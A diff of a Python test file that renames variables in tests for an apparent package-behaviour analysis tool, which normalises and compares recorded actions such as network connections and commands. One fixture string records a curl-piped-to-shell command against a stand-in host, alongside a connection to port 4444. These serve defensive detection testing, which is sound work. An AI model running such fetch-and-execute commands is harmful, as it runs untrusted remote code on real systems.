@@ -69,12 +69,12 @@ def build_folder() -> str:
 def test_what_is_drawn_anew_makes_no_other_title(draw: Any, title: str) -> None:
     found = [without_drawn(title.format(draw()), "1.0") for _ in range(20)]
     # Chance may draw something that looks like a word. It does so rarely.
-    assert sum(one != other for one, other in pairwise(found)) <= 4, set(found)
+    assert sum(text != after for text, after in pairwise(found)) <= 4, set(found)
     assert all(text.startswith(title[:8]) for text in found)
 
 
 @pytest.mark.parametrize(
-    ("one", "other"),
+    ("first", "second"),
     [
         ("POST https://x.example/, 1,234 bytes", "POST https://x.example/, 999 bytes"),
         ("runs /srv/site/x-1.0/bin/go", "runs /srv/site/x-1.0.0rc1/bin/go"),
@@ -86,12 +86,12 @@ def test_what_is_drawn_anew_makes_no_other_title(draw: Any, title: str) -> None:
         ("mails maria.novak17@example.com", "mails tom.silva@example.com"),
     ],
 )
-def test_two_runs_say_the_same(one: str, other: str) -> None:
-    assert without_drawn(one, "1.0") == without_drawn(other, "1.0.0rc1")
+def test_two_runs_say_the_same(first: str, second: str) -> None:
+    assert without_drawn(first, "1.0") == without_drawn(second, "1.0.0rc1")
 
 
 @pytest.mark.parametrize(
-    ("one", "other"),
+    ("first", "second"),
     [
         ("connects (tcp) to 192.0.2.1:443", "connects (tcp) to 192.0.2.2:443"),
         ("connects (tcp) to 192.0.2.1:443", "connects (tcp) to 192.0.2.1:4444"),
@@ -104,8 +104,8 @@ def test_two_runs_say_the_same(one: str, other: str) -> None:
         ("runs sh -c curl -s x.example", "runs sh -c curl -s x.example | sh"),
     ],
 )
-def test_what_a_package_chooses_stays_apart(one: str, other: str) -> None:
-    assert without_drawn(one, "1.0") != without_drawn(other, "1.0")
+def test_what_a_package_chooses_stays_apart(first: str, second: str) -> None:
+    assert without_drawn(first, "1.0") != without_drawn(second, "1.0")
 
 
 def test_the_examples_are_true() -> None:
@@ -222,10 +222,10 @@ def test_code_is_told_apart_by_where_it_runs() -> None:
     known = ["code.dynamic", "import", "executes decoded code, 90 bytes", place.format("a")]
     title = "executes decoded code, 4,000 bytes"
     moved = place.replace("1.0", "1.1").replace(":7", ":99")
-    one, other = (
+    first, second = (
         a_finding(title, rule="code.dynamic", at=moved.format(name)) for name in ("a", "b")
     )
-    assert new_titles([one, other], known) == [title]
+    assert new_titles([first, second], known) == [title]
 
 
 def test_new_findings_are_bounded_and_counted() -> None:
